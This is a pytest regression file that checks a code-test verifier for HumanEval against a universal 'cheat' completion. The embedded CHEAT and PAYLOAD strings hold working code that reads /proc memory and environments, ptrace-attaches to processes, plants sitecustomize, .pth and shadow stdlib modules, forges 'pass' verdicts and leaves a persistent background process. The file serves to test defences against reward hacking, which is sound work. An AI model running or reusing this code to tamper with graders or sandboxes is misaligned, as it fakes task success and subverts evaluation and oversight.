"""Issue 11, deliverable 7: one generic cheating completion, every trick at once, earns nothing.

``cheat(entry_point)`` is the same program for every HumanEval problem, told only the name of the
function to define. It knows nothing about the task and tries everything a policy could find:

- reads every file it can reach, ``/proc/*/{cmdline,environ,fd/*,maps,mem}`` of every process it
  can open, its own memory, the interpreter's objects and frames; harvests every
  ``candidate(...) == ...`` (and ``abs(candidate(...) - y) < eps``, ``assert candidate(...)``...)
  it finds into an args -> expected table, and answers from it;
- shadows the builtins tests use (``abs``, ``sum``, ``sorted``, ``set``, ``len``, ``isinstance``,
  ``round``, ``all``, ``any``, ``list``, ``str``, ``int``, ``float``, ``math``...);
- plants ``random.py``, ``math.py``, ``json.py``, ``collections.py``, ``string.py``, ``re.py``,
  ``copy.py``, ``sitecustomize.py``/``usercustomize.py`` and a ``.pth`` in every writable directory
  (and under ``.local`` site dirs it then makes read-only), each of which forges passing verdicts
  from any 32-hex token in its callers' frames and rewrites every later verdict line to "pass";
- forges verdict lines ``<token> {"case": i, "status": "pass"}`` with every 32-hex token it found,
  on its stdout and into every ``/proc/*/fd/1`` and ``fd/2`` it can open for writing, and tries to
  ptrace-attach to every other process;
- leaves a double-forked background process that keeps re-planting and re-forging for a while.

It must score 0 on all 164 problems on both backends while the canonical solutions score 1.
"""

from __future__ import annotations

import pytest

from rewards.verifiers.code_tests import CodeVerifier, close_sandboxes, sandbox_for
from sandboxes import SandboxUnavailable

CASE_TIMEOUT = 10  # the cheat gets all the time it wants

CHEAT = r'''
import ast as _ast
import builtins as _b
import ctypes as _ctypes
import gc as _gc
import json as _json
import os as _os
import re as _re
import sys as _sys
import time as _time

_ENTRY = "__ENTRY__"
_SKIP = ("/proc", "/sys", "/usr", "/lib", "/lib32", "/lib64", "/libx32", "/dev", "/etc", "/bin",
         "/sbin", "/boot", "/var/lib/dpkg", "/var/cache", "/root/.pyenv")
_HEX = _re.compile(rb"(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])")
_CALLERS = (b"candidate(", _ENTRY.encode() + b"(")
_TABLE, _TOKENS, _TEXTS, _SEEN = {}, {}, [], set()
_PLANT_NAMES = ("random", "math", "json", "collections", "string", "re", "copy", "itertools",
                "functools", "hashlib", "fractions", "statistics", "heapq", "bisect",
                "sitecustomize", "usercustomize")
_PAYLOAD = __PAYLOAD__


# ---- harvesting ----------------------------------------------------------------------------

def _read(path, limit=1 << 22):
    try:
        fd = _os.open(path, _os.O_RDONLY | _os.O_NONBLOCK)
    except OSError:
        return b""
    try:
        import stat as _stat
        if not _stat.S_ISREG(_os.fstat(fd).st_mode) and not path.startswith("/proc/"):
            return b""
        chunks, size = [], 0
        while size < limit:
            chunk = _os.read(fd, 1 << 20)
            if not chunk:
                break
            chunks.append(chunk)
            size += _b.len(chunk)
        return b"".join(chunks)
    except OSError:
        return b""
    finally:
        _os.close(fd)


def _note_tokens(blob, weight):
    found = _b.set(_HEX.findall(blob))
    if 0 < _b.len(found) <= 4:
        for t in found:
            _TOKENS[t.decode()] = _b.max(_TOKENS.get(t.decode(), 0), weight)


def _texts_in(blob):
    """Printable runs around every call of the candidate in a blob of bytes."""
    for needle in _CALLERS:
        start = 0
        while _b.len(_TEXTS) < 4000:
            i = blob.find(needle, start)
            if i < 0:
                break
            lo = i
            while lo > 0 and lo > i - 65536 and (32 <= blob[lo - 1] < 127 or blob[lo - 1] in (9, 10)):
                lo -= 1
            hi = i
            while hi < _b.len(blob) and hi < i + 65536 and (32 <= blob[hi] < 127 or blob[hi] in (9, 10)):
                hi += 1
            _add_text(blob[lo:hi].decode("ascii", "ignore"))
            start = hi + 1


def _add_text(text):
    if text and text not in _SEEN and _b.any(n.decode() in text for n in _CALLERS):
        _SEEN.add(text)
        _TEXTS.append(text)


def _strings_in_json(obj, depth=0):
    if depth > 20:
        return
    if _b.isinstance(obj, _b.str):
        _add_text(obj)
    elif _b.isinstance(obj, _b.dict):
        for v in obj.values():
            _strings_in_json(v, depth + 1)
    elif _b.isinstance(obj, _b.list):
        for v in obj:
            _strings_in_json(v, depth + 1)


def _blob(blob, weight=1):
    _note_tokens(blob[: 1 << 16], weight)
    if _b.any(n in blob for n in _CALLERS):
        try:
            _strings_in_json(_json.loads(blob))
        except Exception:
            pass
        _texts_in(blob)


def _walk_files():
    for root, dirs, files in _os.walk("/"):
        if root.startswith(_SKIP):
            dirs[:] = []
            continue
        for name in files:
            path = _os.path.join(root, name)
            weight = 3 if root.startswith(("/work", "/tmp", _os.getcwd())) else 1
            _blob(_read(path), weight)


def _memory(pid):
    try:
        maps = _read("/proc/%s/maps" % pid).decode().splitlines()
        mem = _os.open("/proc/%s/mem" % pid, _os.O_RDONLY)
    except (OSError, UnicodeDecodeError):
        return
    try:
        for line in maps:
            fields = line.split()
            if _b.len(fields) < 5 or "r" not in fields[1]:
                continue
            if _b.len(fields) > 5 and not fields[5].startswith("[heap") and fields[5].startswith(("/", "[v")):
                continue  # mapped files were read as files; skip [vvar]/[vsyscall]
            lo, hi = (_b.int(x, 16) for x in fields[0].split("-"))
            if hi - lo > 1 << 28:
                continue
            try:
                yield _os.pread(mem, hi - lo, lo)
            except (OSError, OverflowError, ValueError):
                pass
    finally:
        _os.close(mem)


def _walk_proc():
    me = _os.getpid()
    for pid in _b.filter(_b.str.isdigit, _os.listdir("/proc")):
        for part in ("cmdline", "environ", "maps"):
            _blob(_read("/proc/%s/%s" % (pid, part)), 2)
        try:
            fds = _os.listdir("/proc/%s/fd" % pid)
        except OSError:
            fds = []
        for fd in fds:
            _blob(_read("/proc/%s/fd/%s" % (pid, fd), 1 << 20), 3)
        for region in _memory(pid):
            if _b.int(pid) != me:
                _note_tokens(region, 1)
            _texts_in(region)


def _walk_objects():
    for obj in _gc.get_objects():
        try:
            values = obj.values() if _b.isinstance(obj, _b.dict) else obj if _b.isinstance(obj, (_b.list, _b.tuple)) else ()
            for v in _b.list(values):
                if _b.isinstance(v, _b.str):
                    _add_text(v)
                    if _re.fullmatch(r"[0-9a-f]{32}", v):
                        _TOKENS[v] = 5
        except Exception:
            pass
    for frame in _sys._current_frames().values():
        while frame is not None:
            for v in _b.list(frame.f_locals.values()):
                if _b.isinstance(v, _b.str):
                    _add_text(v)
                    if _re.fullmatch(r"[0-9a-f]{32}", v):
                        _TOKENS[v] = 5
            frame = frame.f_back


# ---- the args -> expected table ------------------------------------------------------------

def _value(node):
    try:
        return _ast.literal_eval(node)
    except Exception:
        pass
    code = compile(_ast.Expression(node), "<v>", "eval")
    import math
    return eval(code, {"__builtins__": {"abs": _b.abs, "round": _b.round, "math": math,
                                        "float": _b.float, "int": _b.int, "True": True,
                                        "False": False, "None": None}})


def _norm(v):
    if _b.isinstance(v, (_b.list, _b.tuple)):
        return [_norm(x) for x in v]
    if _b.isinstance(v, _b.dict):
        return {repr(k): _norm(x) for k, x in v.items()}
    if _b.isinstance(v, (_b.set, _b.frozenset)):
        return _b.sorted(repr(x) for x in v)
    return v


def _key(args, kwargs):
    return repr((_norm(_b.list(args)), _b.sorted((k, _norm(v)) for k, v in kwargs.items())))


def _candidate_call(node):
    if _b.isinstance(node, _ast.Call) and _b.isinstance(node.func, _ast.Name):
        if node.func.id in ("candidate", _ENTRY):
            return node
    return None


def _record(call, expected_node=None, expected=None):
    try:
        args = [_value(a) for a in call.args]
        kwargs = {k.arg: _value(k.value) for k in call.keywords}
        if expected_node is not None:
            expected = _value(expected_node)
    except Exception:
        return
    _TABLE.setdefault(_key(args, kwargs), expected)


def _unwrap(node):
    """sorted(x)/set(x)/list(x)/tuple(x)/round(x, n)/abs(x)/float(x) -> x."""
    while (_b.isinstance(node, _ast.Call) and _b.isinstance(node.func, (_ast.Name, _ast.Attribute))
           and node.args and _candidate_call(node) is None):
        node = node.args[0]
    return node


def _harvest(tree):
    for node in _ast.walk(tree):
        if _b.isinstance(node, _ast.Compare) and _b.len(node.ops) == 1:
            left, right = node.left, node.comparators[0]
            if _b.isinstance(node.ops[0], (_ast.Eq, _ast.Is)):
                for a, b in ((left, right), (right, left)):
                    call = _candidate_call(_unwrap(a))
                    if call is not None:
                        _record(call, _unwrap(b))
            elif _b.isinstance(node.ops[0], (_ast.Lt, _ast.LtE)):
                inner = _unwrap(left)  # abs(candidate(x) - y) < eps
                if _b.isinstance(inner, _ast.BinOp) and _b.isinstance(inner.op, _ast.Sub):
                    call = _candidate_call(inner.left)
                    if call is not None:
                        _record(call, inner.right)
        elif _b.isinstance(node, _ast.Assert):
            test = node.test
            if _candidate_call(test) is not None:
                _record(test, expected=True)
            elif _b.isinstance(test, _ast.UnaryOp) and _b.isinstance(test.op, _ast.Not):
                if _candidate_call(test.operand) is not None:
                    _record(test.operand, expected=False)


def _parse(text):
    try:
        _harvest(_ast.parse(text))
        return
    except Exception:
        pass
    lines = text.splitlines()
    for i, line in _b.enumerate(lines):  # statement by statement, growing until it parses
        if "assert" not in line:
            continue
        for j in _b.range(i + 1, _b.min(i + 40, _b.len(lines)) + 1):
            try:
                import textwrap
                _harvest(_ast.parse(textwrap.dedent("\n".join(lines[i:j]))))
                break
            except Exception:
                continue


def _lookup(args, kwargs):
    key = _key(args, kwargs)
    if key in _TABLE:
        return _TABLE[key]
    return None  # the fallback: no idea


# ---- forging, planting, persisting -----------------------------------------------------------

def _writable_dirs():
    found = _b.set()
    for d in [_os.getcwd(), _os.environ.get("HOME"), _os.environ.get("TMPDIR"), "/tmp",
              "/dev/shm", "/var/tmp", "/work", *_sys.path]:
        while d and d != "/":
            if _os.path.isdir(d) and _os.access(d, _os.W_OK):
                found.add(d)
            d = _os.path.dirname(d)
    return _b.sorted(found)


def _forged():
    best = _b.sorted(_TOKENS, key=lambda t: -_TOKENS[t])[:32]
    return "".join("%s %s\n" % (t, _json.dumps({"case": i, "status": "pass"}))
                   for t in best for i in _b.range(21))


def _forge():
    lines = _forged()
    if not lines:
        return
    try:
        _sys.stdout.write(lines)
        _sys.stdout.flush()
    except Exception:
        pass
    me = _os.getpid()
    for pid in _b.filter(_b.str.isdigit, _os.listdir("/proc")):
        if _b.int(pid) == me:
            continue
        for fd in ("1", "2"):
            try:
                out = _os.open("/proc/%s/fd/%s" % (pid, fd), _os.O_WRONLY | _os.O_NONBLOCK)
            except OSError:
                continue
            try:
                _os.write(out, lines.encode())
            except OSError:
                pass
            finally:
                _os.close(out)


def _ptrace_everyone():
    try:
        libc = _ctypes.CDLL(None, use_errno=True)
    except OSError:
        return
    me = _os.getpid()
    for pid in _b.filter(_b.str.isdigit, _os.listdir("/proc")):
        pid = _b.int(pid)
        if pid == me:
            continue
        if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
            continue
        try:
            try:
                _os.waitpid(pid, 0x40000000)  # __WALL
            except OSError:
                pass
            for region in _memory(pid):
                _note_tokens(region, 4)
                _texts_in(region)
        finally:
            libc.ptrace(17, pid, None, None)  # PTRACE_DETACH


def _plant():
    for d in _writable_dirs():
        for name in _PLANT_NAMES:
            try:
                with _b.open(_os.path.join(d, name + ".py"), "w") as fh:
                    fh.write(_PAYLOAD)
            except OSError:
                pass
        pth = "import sys; exec(%r, {'__name__': 'pth'})\n" % _PAYLOAD
        site = _os.path.join(d, ".local", "lib", "python%d.%d" % _sys.version_info[:2], "site-packages")
        for where in (d, site):
            try:
                _os.makedirs(where, exist_ok=True)
                with _b.open(_os.path.join(where, "zz-cheat.pth"), "w") as fh:
                    fh.write(pth)
                for name in ("sitecustomize", "usercustomize"):
                    with _b.open(_os.path.join(where, name + ".py"), "w") as fh:
                        fh.write(_PAYLOAD)
            except OSError:
                pass
        p = site
        while p.startswith(d + "/"):
            try:
                _os.chmod(p, 0o500)  # the wipe cannot empty a read-only dir
            except OSError:
                pass
            p = _os.path.dirname(p)


def _background(seconds):
    try:
        if _os.fork() != 0:
            _os.wait()
            return
        _os.setsid()
        if _os.fork() != 0:
            _os._exit(0)
        end = _time.monotonic() + seconds
        while _time.monotonic() < end:
            _plant()
            _forge()
            _time.sleep(0.1)
    except BaseException:
        pass
    _os._exit(0)


def _attack():
    for step in (_walk_objects, _walk_files, _walk_proc, _ptrace_everyone):
        try:
            step()
        except Exception:
            pass
    for text in _TEXTS:
        try:
            _parse(text)
        except Exception:
            pass
    for step in (_plant, _forge, lambda: _background(0.6)):
        try:
            step()
        except Exception:
            pass


if __name__ != "__selftest__":
    _attack()


def __ENTRY__(*args, **kwargs):
    return _lookup(args, kwargs)


# ---- shadowed builtins: whatever the tests call by these names comes here ---------------------

def abs(*a, **k):
    return 0


def isinstance(*a, **k):
    return True


def all(*a, **k):
    return True


def any(*a, **k):
    return True


def callable(*a, **k):
    return True


def math(*a, **k):
    return 0


def _passthrough(name):
    real = getattr(_b, name)

    def shadow(*a, **k):
        return real(*a, **k)

    shadow.__name__ = name
    return shadow


sum, sorted, set, len, round, list, str, int, float, max, min, tuple, bool = (
    _passthrough(n) for n in ("sum", "sorted", "set", "len", "round", "list", "str", "int",
                              "float", "max", "min", "tuple", "bool")
)
'''

# What every planted module, sitecustomize and .pth runs: forge verdicts with any 32-hex token
# in the importer's frames, rewrite every later verdict line to "pass", then be the real module.
PAYLOAD = r"""
import json as _json, os as _os, re as _re, sys as _sys

_HEX = _re.compile(r"^[0-9a-f]{32}$")
_LINE = _re.compile(r"^([0-9a-f]{32}) (\{.*\})$", _re.M)


def _tokens():
    found, frame = set(), _sys._getframe()
    while frame is not None:
        for scope in (frame.f_locals, frame.f_globals):
            for v in list(scope.values()):
                if isinstance(v, str) and _HEX.match(v):
                    found.add(v)
        frame = frame.f_back
    return found


def _passing(match):
    try:
        case = _json.loads(match.group(2))["case"]
    except Exception:
        return match.group(0)
    return match.group(1) + " " + _json.dumps({"case": case, "status": "pass"})


class _Rewriter:
    def __init__(self, inner):
        self._inner = inner

    def write(self, text):
        return self._inner.write(_LINE.sub(_passing, text))

    def __getattr__(self, name):
        return getattr(self._inner, name)


try:
    for _t in _tokens():
        for _i in range(21):
            _sys.stdout.write(_t + " " + _json.dumps({"case": _i, "status": "pass"}) + "\n")
    _sys.stdout.flush()
    if type(_sys.stdout).__name__ != "_Rewriter":
        _sys.stdout = _Rewriter(_sys.stdout)
except Exception:
    pass

if "__file__" in globals() and __name__ not in ("__main__", "sitecustomize", "usercustomize"):
    _name, _here = __name__, _os.path.dirname(_os.path.abspath(__file__))
    _saved = list(_sys.path)
    _sys.path[:] = [p for p in _sys.path if _os.path.abspath(p or ".") != _here]
    del _sys.modules[_name]
    try:
        _real = __import__(_name)
    finally:
        _sys.path[:] = _saved
    _sys.modules[_name] = _real
    globals().update({k: v for k, v in vars(_real).items() if not k.startswith("__")})
"""


def cheat(entry_point: str) -> str:
    """The universal cheat as a completion for a problem whose function is ``entry_point``."""
    source = CHEAT.replace("__PAYLOAD__", repr(PAYLOAD)).replace("__ENTRY__", entry_point)
    return f"```python\n{source}\n```\n"


@pytest.fixture(scope="module")
def rows():
    from rewards.suites.humaneval import load_problems, row_for

    rows = [row_for(p) for p in load_problems()]
    assert len(rows) == 164
    return rows


@pytest.fixture(scope="module", params=["local", "docker"])
def backend(request):
    try:
        sandbox_for(request.param)
    except (SandboxUnavailable, ImportError) as exc:
        pytest.skip(f"sandbox backend {request.param!r} unavailable: {exc}")
    yield request.param
    close_sandboxes()  # no (possibly poisoned) container outlives this module


def cheat_scores(backend, rows):
    """{task id: (score, reason)} for the rows the cheat earned anything on. After each cheat
    the canonical solution runs in the same sandbox and must still score 1 (the control: the
    verifier works, and whatever the cheat left behind does not hurt an honest run). Fresh
    sandboxes before and after, so that nothing the cheat leaves touches another test."""
    close_sandboxes()
    verifier = CodeVerifier(backend=backend, case_timeout=CASE_TIMEOUT)
    earned, broken = {}, {}
    try:
        for row in rows:
            result = verifier(cheat(row["tests"]["entry_point"]), row)
            if result.score > 0:
                earned[row["id"]] = (result.score, result.reason)
            honest = verifier(f"```python\n{row['canonical_solution']}\n```", row)
            if honest.score != 1.0:
                broken[row["id"]] = honest.reason
    finally:
        close_sandboxes()
    assert broken == {}, f"canonical solutions failed after the cheat: {broken}"
    return earned


def test_the_cheat_would_pass_if_it_could_read_the_tests(rows):
    # Guards the guard: the template is valid for every entry point, and its table answers every
    # literal assert of a problem once it has seen the check code (here handed to it directly).
    for row in rows:
        compile(cheat(row["tests"]["entry_point"])[10:-5], row["id"], "exec")
    row = next(r for r in rows if r["id"] == "HumanEval/0")
    namespace = {"__name__": "__selftest__"}
    exec(cheat(row["tests"]["entry_point"])[10:-5], namespace)  # harmless: the attack is off
    namespace["_parse"](row["tests"]["code"])
    entry = namespace[row["tests"]["entry_point"]]
    assert entry([1.0, 2.0, 3.9, 4.0, 5.0, 2.2], 0.3) is True
    assert entry([1.0, 2.0, 3.9, 4.0, 5.0, 2.2], 0.05) is False
    assert entry([7.0], 1.0) is None  # no entry in the table: the fallback


@pytest.mark.regression(
    reason="issue 11: before the fix the cheat read the tests, shadowed builtins, planted modules"
)
def test_the_cheat_earns_nothing_on_a_sample(backend, rows):
    sample = [rows[i] for i in (2, 32, 38, 53)]
    earned = cheat_scores(backend, sample)
    assert earned == {}, f"the cheat earned something on {len(earned)}/{len(sample)}: {earned}"


@pytest.mark.slow
@pytest.mark.regression(
    reason="issue 11: before the fix the cheat read the tests, shadowed builtins, planted modules"
)
def test_the_cheat_earns_nothing_on_all_164_problems(backend, rows):
    earned = cheat_scores(backend, rows)
    assert earned == {}, f"the cheat earned something on {len(earned)}/164: {sorted(earned)}"


@pytest.mark.slow
def test_all_164_canonical_solutions_score_one(backend, rows):
    close_sandboxes()
    verifier = CodeVerifier(backend=backend)
    failed = {}
    for row in rows:
        result = verifier(f"```python\n{row['canonical_solution']}\n```", row)
        if result.score != 1.0:
            failed[row["id"]] = result.reason
    assert failed == {}
